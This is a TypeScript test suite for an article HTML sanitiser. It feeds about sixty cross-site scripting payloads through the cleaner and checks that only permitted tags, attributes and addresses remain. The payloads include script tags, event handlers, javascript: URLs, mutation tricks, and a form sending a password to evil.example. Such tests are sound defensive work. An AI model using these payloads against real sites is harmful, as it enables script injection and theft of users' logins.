import { describe, expect, it, test } from 'vitest';
import { cleanHtml, hasText, lacksAlt } from './article-html.ts';

/** Texts that try to run scripts, load files, cover the page or send data, each by a known trick. */
const hostileTexts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="https://evil.example/pixel.gif" alt="x">',
  '<img src="//evil.example/pixel.gif" alt="x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  '<img src="/api/v2/content/picture/pic_1" srcset="https://evil.example/a 1x" onload="alert(1)" alt="x">',
  '<img src="/api/v2/content/picture/../../logout" alt="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/login" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p id="root" class="dialog" name="getElementById">x</p>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<<p onmouseover=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x',
  '"><script>alert(1)</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
];

/** The tags that a browser would parse, with their attributes. Escaped tags are left out. */
const tagsOf = (html: string): string => (html.match(/<[^>]*>/g) ?? []).join('\n');

describe('a hostile text has only permitted tags, attributes and addresses after cleaning', () => {
  test.each(hostileTexts)('%s', (html) => {
    const tags = tagsOf(cleanHtml(html));
    expect(tags).not.toMatch(/\son\w+\s*=|style=|srcdoc|formaction|\sid=|\sclass=|\sname=|ping=/i);
    expect(tags).not.toMatch(/(javascript|vbscript|data|http):/i);
    expect(tags).not.toMatch(/(src|srcset|href)="(?!\/(?!\/)|https:|mailto:|tel:)/i);
    expect(tags).not.toMatch(/evil\.example/);
    for (const [, tag] of tags.matchAll(/<\/?([a-z0-9]+)/gi))
      expect(['p', 'a', 'img', 'em', 'strong', 'br']).toContain(tag);
    // A second cleaning changes nothing.
    expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html));
  });
});

it("keeps the editor's elements", () => {
  const text =
    '<h2>Rates</h2><p>A <strong>bold</strong> <em>word</em>.</p><ul><li><p>One</p></li></ul><blockquote><p>Said</p></blockquote>';
  expect(cleanHtml(text)).toBe(text);
});

it('links to our own pages open in the same window, other links in a new one without a referrer', () => {
  expect(cleanHtml('<a href="/register">x</a>')).toBe('<a href="/register">x</a>');
  expect(cleanHtml('<a href="https://example.com">x</a>')).toBe(
    '<a href="https://example.com" rel="noopener noreferrer" target="_blank">x</a>',
  );
});

it('gives our own pictures in several widths, and reports a missing alternative text', () => {
  const cleanText = cleanHtml('<p><img src="/api/v2/content/picture/pic_1ab" alt="A pool"></p>');
  expect(cleanText).toContain('src="/api/v2/content/picture/pic_1ab?w=960"');
  expect(cleanText).toContain('/api/v2/content/picture/pic_1ab?w=480 480w');
  expect(lacksAlt(cleanText)).toBe(false);
  expect(lacksAlt(cleanHtml('<img src="/api/v2/content/picture/pic_1ab">'))).toBe(true);
});

it('distinguishes tags without text from text', () => {
  expect(hasText('<p></p><p> </p>')).toBe(false);
  expect(hasText('<p>词</p>')).toBe(true);
});

it('limits the depth of a text with many open tags, and keeps a list inside a list', () => {
  const cleanText = cleanHtml(`${'<blockquote>'.repeat(16_000)}words`);
  expect(cleanText.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(30);
  expect(cleanText).toContain('words');
  const list = '<ul><li><p>One</p><ul><li><p>Two</p></li></ul></li></ul>';
  expect(cleanHtml(list)).toBe(list);
});
